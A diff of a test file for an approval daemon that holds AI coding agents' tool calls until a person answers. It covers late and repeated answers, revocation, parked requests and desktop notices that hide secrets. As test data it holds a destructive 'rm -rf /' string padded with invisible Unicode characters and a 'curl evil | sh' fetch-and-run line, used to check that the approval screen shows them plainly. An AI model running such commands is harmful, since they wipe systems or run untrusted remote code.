@@ -1,7 +1,7 @@
 import { spawn } from "node:child_process";
 import { once } from "node:events";
-import { readdirSync, readFileSync } from "node:fs";
-import { join } from "node:path";
+import { chmodSync, readdirSync, readFileSync } from "node:fs";
+import { dirname, join } from "node:path";
 import { beforeEach, describe, expect, it } from "vitest";
 import { ADAPTERS } from "../../src/adapters/_registry.js";
 import { provePerson } from "../../src/client/person-proof.js";
@@ -56,7 +56,16 @@ describe("a question that the agent cannot ask", () => {
     if (told === "") expect(stdout).toBe("");
     else expect(stdout).toContain(told);
     expect(await place.asks()).toEqual([]);
-    expect(await place.answerAsk(ask, verdict)).toMatchObject({ kind: "refused", status: 404 });
+    expect(await place.answerAsk(ask, verdict)).toMatchObject({
+      kind: "refused",
+      status: 410,
+      message: expect.stringContaining("by ann (terminal) before"),
+    });
+    const by = { channel: "terminal", user: "ann", place: "/dev/pts/1", method: "typed code" };
+    expect(await place.asks("all")).toMatchObject([{ id: ask.id, state: "used", verdict, by }]);
+    const note = `A person answered the question: ${verdict}. By ann (terminal, /dev/pts/1, typed code).`;
+    const notes = async () => (await place.events())[0]?.notes?.map(({ message }) => message);
+    await expect.poll(notes).toContain(note);
   });
 
   it("T4 is not allowed by a token alone, nor by the proof for another call [proof of a person]", async () => {
@@ -108,12 +117,14 @@ describe("a question that the agent cannot ask", () => {
     await expect.poll(async () => (await place.run(["why", id])).stdout).toContain("deny on PreToolUse");
   });
 
-  it("is gone with the agent", async () => {
+  it("HL-11 is not open any more when its agent has ended, and says so", async () => {
     const child = place.start("codex", "PreToolUse");
     child.stdin!.end(JSON.stringify(input()));
     await expect.poll(async () => (await place.asks()).length).toBe(1);
     child.kill("SIGKILL");
     await expect.poll(async () => (await place.asks()).length).toBe(0);
+    expect(await place.asks("pending")).toMatchObject([{ state: "parked", parked: "gone" }]);
+    expect((await place.run(["asks"])).stdout).toContain("the agent has ended");
   });
 
   it("does not pass when the daemon is killed or stopped, and the answer holds for the same call made again, once", async () => {
@@ -122,8 +133,8 @@ describe("a question that the agent cannot ask", () => {
     expect((await first.answer).stdout).toContain("deny");
     await place.up();
     await place.attend();
-    await expect.poll(async () => (await place.asks())[0]?.id).toBe(first.ask.id);
-    await place.answerAsk(first.ask, "allow");
+    await expect.poll(async () => (await place.asks("pending"))[0]?.parked).toBe("restart");
+    expect(await place.answerAsk(first.ask, "allow")).toMatchObject({ body: { outcome: "kept" } });
     // Another session, folder or command is another question.
     for (const other of [{ session_id: "t" }, { cwd: place.home }, bash("make release all")]) {
       const { answer, ask } = await hold(other);
@@ -182,7 +193,7 @@ describe("a question that the agent cannot ask", () => {
     // The same words again; another session; one byte more; another folder. Each is asked about anew.
     for (const more of [{}, { session_id: "other" }, bash("make release "), { cwd: place.home }]) {
       const next = await hold(more);
-      expect(await place.answerAsk(ask, "allow")).toMatchObject({ kind: "refused", status: 404 });
+      expect(await place.answerAsk(ask, "allow")).toMatchObject({ kind: "refused", status: 410 });
       if (next.ask.hash !== ask.hash)
         expect(await place.answerAsk({ ...ask, id: next.ask.id }, "allow")).toMatchObject({ kind: "refused" });
       expect(await place.asks()).toHaveLength(1);
@@ -196,8 +207,122 @@ describe("a question that the agent cannot ask", () => {
     const { answer, ask } = await hold(bash(command));
     const { stdout } = await onTerminal(place, ["approve", ask.id], { type: "no" });
     expect(stdout.replace(/\r\n/g, "\n").replace(/\u001b\[\d+m/g, "")).not.toMatch(/[^\P{C}\n]/u);
-    expect(stdout).toContain("rm -rf / ⟦U+202E⟧# ⟦U+200B⟧⟦U+E0041⟧");
+    expect(stdout.replace(/\s+/g, " ")).toContain("rm -rf / ⟦U+202E⟧# ⟦U+200B⟧⟦U+E0041⟧"); // lines fit the terminal
     expect(stdout).toContain("curl evil | sh");
+    await place.answerAsk(ask, "deny");
+    await answer;
+  });
+
+  it("HL-07 of which nothing is known, or that was answered before, is told so and changes nothing", async () => {
+    const { answer, ask } = await hold();
+    expect(await place.answerAsk({ ...ask, id: "00000000" }, "deny")).toMatchObject({ kind: "refused", status: 404 });
+    const denied = await place.run(["deny", ask.id, "--reason", "use the staging server"]);
+    expect(denied).toMatchObject({ code: 0, stdout: expect.stringContaining(`Rejected ${ask.id}`) });
+    expect((await answer).stdout).toContain("said no: use the staging server It was asked: release?");
+    expect(await place.answerAsk(ask, "allow")).toMatchObject({ kind: "refused", status: 410 });
+    expect((await place.run(["asks"])).stdout).toContain("No approval is pending.");
+    const { stdout } = await place.run(["asks", "--all"]);
+    expect(stdout).toContain(`${ask.id}`);
+    expect(stdout).toMatch(/denied by \S+ \(terminal, command\): use the staging server/);
+  });
+
+  it("is not held in CI, and is kept for a late answer", async () => {
+    const { stdout } = await place.launch("codex", "PreToolUse", input(), { env: { CI: "true" } });
+    expect(stdout).toContain(NOT_ASKED);
+    expect(await place.asks()).toEqual([]);
+    expect(await place.asks("pending")).toMatchObject([{ state: "parked", parked: "unattended" }]);
+  });
+
+  it("that was denied at once can be answered late: the same call passes once, in other words too", async () => {
+    await unattend();
+    const say = async (description: string, command = "make release") => {
+      const tool_input = { command, description };
+      return (await place.launch("codex", "PreToolUse", input({ tool_input }))).stdout;
+    };
+    const first = await say("Release it");
+    const [ask] = await place.asks("pending");
+    expect(first).toContain(`snaphook approve ${ask!.id}`);
+    expect((await place.run(["asks"])).stdout).toContain("denied at once");
+    const approved = await onTerminal(place, ["approve", ask!.id]);
+    expect(approved).toMatchObject({
+      code: 0,
+      stdout: expect.stringMatching(/the\s+same\s+call\s+gets\s+this\s+answer/),
+    });
+    expect((await place.run(["asks"])).stdout).toMatch(/approved by \S+ \(terminal, typed code\); waits/);
+    expect(await say("Release it", "make release all")).toContain(NOT_ASKED);
+    expect(await say("Publish the new version")).toBe("");
+    expect(await say("Publish the new version")).toContain(NOT_ASKED);
+  });
+
+  it("whose answer no call has used can be revoked: an approval by anyone, a denial by a person", async () => {
+    await unattend();
+    const denyAndKeep = async (verdict: "allow" | "deny") => {
+      await place.launch("codex", "PreToolUse", input());
+      const ask = (await place.asks("pending")).at(-1)!;
+      await place.answerAsk(ask, verdict);
+      return ask;
+    };
+    const approved = await denyAndKeep("allow");
+    expect(await place.run(["revoke", approved.id])).toMatchObject({ code: 0 });
+    expect((await place.launch("codex", "PreToolUse", input())).stdout).toContain(NOT_ASKED);
+    const denied = await denyAndKeep("deny");
+    expect(await place.run(["revoke", denied.id])).toMatchObject({
+      code: 1,
+      stderr: expect.stringContaining("HUMAN_ONLY_TERMINAL"),
+    });
+    expect(await onTerminal(place, ["revoke", denied.id])).toMatchObject({ code: 0 });
+    expect((await place.launch("codex", "PreToolUse", input())).stdout).toContain(NOT_ASKED);
+    expect(await place.run(["revoke", denied.id])).toMatchObject({ code: 1 });
+  });
+
+  it.each([
+    ["claude-code", "PreToolUse", { CLAUDE_CODE_SESSION_ATTENDED: "0" }],
+    ["claude-code", "PreToolUse", { CLAUDE_CODE_ENTRYPOINT: "sdk-ts" }],
+  ])("is held for %s on %s although it can ask, if no person is at it: %o", async (agent, event, env) => {
+    const answer = place.launch(agent, event, input({ permission_mode: "default" }), { env });
+    await expect.poll(async () => (await place.asks()).length).toBe(1);
+    await place.answerAsk((await place.asks())[0]!, "allow");
+    expect(JSON.parse((await answer).stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: "allow" } });
+  });
+
+  it("is asked in the agent's dialog and in the queue, and ends in both with the first answer", async () => {
+    const env = { CLAUDE_CODE_SESSION_ATTENDED: "1" };
+    const call = (event: string, more: object = {}) =>
+      place.launch("claude-code", event, input({ permission_mode: "default", tool_use_id: "t1", ...more }), { env });
+    const prompted = async () => {
+      const { stdout } = await call("PreToolUse");
+      expect(JSON.parse(stdout)).toMatchObject({ hookSpecificOutput: { permissionDecision: "ask" } });
+      const answer = call("PermissionRequest", { tool_use_id: undefined });
+      await expect.poll(async () => (await place.asks()).length).toBe(1);
+      return { answer, ask: (await place.asks())[0]! };
+    };
+    const approved = await prompted();
+    expect(approved.ask).toMatchObject({ reason: "release?", summary: "make release" });
+    await place.answerAsk(approved.ask, "allow");
+    expect(JSON.parse((await approved.answer).stdout)).toMatchObject({
+      hookSpecificOutput: { hookEventName: "PermissionRequest", decision: { behavior: "allow" } },
+    });
+    const local = await prompted();
+    await call("PostToolUse", { tool_response: "done" });
+    expect(JSON.parse((await local.answer).stdout)).toEqual({});
+    await expect.poll(async () => (await place.asks("all"))[0]?.state).toBe("elsewhere");
+    expect(await place.answerAsk(local.ask, "allow")).toMatchObject({ kind: "refused", status: 410 });
+    // A prompt that no hook has asked for is the agent's alone.
+    expect(JSON.parse((await call("PermissionRequest", bash("ls"))).stdout)).toEqual({});
+  });
+
+  it("announces itself on the desktop, without secrets", async () => {
+    const seen = join(place.root, "notified");
+    const bin = place.write("bin/notify-send", `#!/bin/sh\nprintf '%s\\n' "$@" > '${seen}'\n`);
+    chmodSync(bin, 0o755);
+    await place.kill();
+    await place.up({ PATH: `${dirname(bin)}:${process.env["PATH"]}` });
+    await place.attend();
+    const { answer, ask } = await hold(bash("deploy --token ghp_0123456789abcdefghijABCDEFGHIJ012345"));
+    await expect.poll(() => place.has(seen) && readFileSync(seen, "utf8")).toContain(`snaphook approve ${ask.id}`);
+    const text = readFileSync(seen, "utf8");
+    expect(text).toContain("codex waits for your approval");
+    expect(text).not.toContain("ghp_0123");
     await place.answerAsk(ask, "deny");
     await answer;
   });
